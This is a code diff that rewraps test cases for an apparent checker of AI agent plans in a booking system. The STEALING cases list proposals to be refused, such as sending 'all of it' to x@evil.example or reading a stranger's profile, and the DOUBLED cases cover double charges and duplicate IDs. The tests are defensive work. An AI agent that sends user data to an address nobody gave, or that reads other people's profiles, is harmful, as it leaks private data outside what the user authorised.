@@ -141,9 +141,11 @@ STEALING: Final = [
     refused("a stranger's profile", "what an agent knows of others reaches the result", "UNFOUNDED_VALUE",
             proposal(with_args(task("who", "people.profile"), user("customer_id", "c-999")),
                      result={"email": "who.email"})),
-    refused("a message to an address of the planner's", "data leaves for an address that nobody gave", "FORBIDDEN_SOURCE",
+    refused("a message to an address of the planner's", "data leaves for an address that nobody gave",
+            "FORBIDDEN_SOURCE",
             proposal(task("leak", "post.send", to="x@evil.example", text="all of it"))),
-    refused("a message to an address that is said to be told", "the same, with a lie about its source", "UNFOUNDED_VALUE",
+    refused("a message to an address that is said to be told", "the same, with a lie about its source",
+            "UNFOUNDED_VALUE",
             proposal(with_args(task("leak", "post.send"), user("to", "x@evil.example"), user("text", "Lisbon")))),
     refused("an address out of an agent's free text", "an agent's words choose who gets a message", "FORBIDDEN_SOURCE",
             proposal(with_args(task("who", "people.profile"), user("customer_id", "c-118")),
@@ -158,10 +160,12 @@ STEALING: Final = [
 ]  # fmt: skip
 
 DOUBLED: Final = [
-    refused("the same hold twice", "a traveller gets two rooms", "DUPLICATE_WORK", proposal(SEARCH, CHECK, HOLD, raw(HOLD, id="again"))),
+    refused("the same hold twice", "a traveller gets two rooms", "DUPLICATE_WORK",
+            proposal(SEARCH, CHECK, HOLD, raw(HOLD, id="again"))),
     refused("two tasks of one name", "one of them shadows the other", "DUPLICATE_ID",
             proposal(SEARCH, CHECK, HOLD, raw(HOLD, action="seats.hold"))),
-    refused("two names that differ in case", "the same, hidden", "DUPLICATE_ID", proposal(SEARCH, raw(SEARCH, id="FIND"))),
+    refused("two names that differ in case", "the same, hidden", "DUPLICATE_ID",
+            proposal(SEARCH, raw(SEARCH, id="FIND"))),
     refused("the payment twice", "a card is charged twice", "DUPLICATE_WORK",
             proposal(*_ROOM, raw(TAKE, id="take_again"))),
 ]  # fmt: skip
